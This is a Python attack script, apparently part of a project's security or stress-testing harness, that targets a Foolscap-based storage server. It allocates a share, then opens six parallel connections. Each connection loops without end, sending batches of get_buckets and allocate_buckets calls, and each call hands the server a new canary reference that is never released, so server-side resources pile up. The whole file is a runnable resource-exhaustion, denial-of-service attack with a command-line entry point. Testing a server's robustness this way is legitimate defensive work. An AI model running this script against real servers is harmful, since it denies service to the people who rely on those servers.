"""Clients over Foolscap that take references to shares, and give canaries, and never let go of one."""

from __future__ import annotations

import itertools

from misc.attack.foolscap import Peer, call, in_parallel, opened, value
from misc.attack.target import Target, from_command_line

CONNECTIONS = 6
CALLS = 64
SHARES = 16
INDEX = b"s" * 16


def attack(target: Target) -> None:
    """Store some shares, then ask for them."""
    requests = target.requests
    with target.connect_tls() as connection:
        connection.settimeout(10.0)
        for index in (INDEX,):
            connection.sendall(requests.allocate(index, 1) + requests.write(index, 0, b"x"))
            connection.recv(65536)
    in_parallel(target, CONNECTIONS, take)


def take(target: Target) -> None:
    """Take as many as there are."""
    peer = Peer(target).name()
    numbers = opened(b"set", *(value(number) for number in range(SHARES)))
    with peer.socket as connection:
        connection.settimeout(max(0.1, target.left_s))
        for request in itertools.count(2, 2 * CALLS):
            calls = []
            for number in range(request, request + 2 * CALLS, 2):
                canary = opened(b"my-reference", value(number), value(b""))
                given = (
                    value(b"t" * 16),
                    value(b"r" * 32),
                    value(b"c" * 32),
                    numbers,
                    value(1),
                    canary,
                )
                calls.append(call(number, peer.storage, b"get_buckets", value(INDEX)))
                calls.append(call(number + 1, peer.storage, b"allocate_buckets", *given))
            connection.sendall(b"".join(calls))
            connection.recv(1 << 20)


if __name__ == "__main__":
    attack(from_command_line(__doc__))
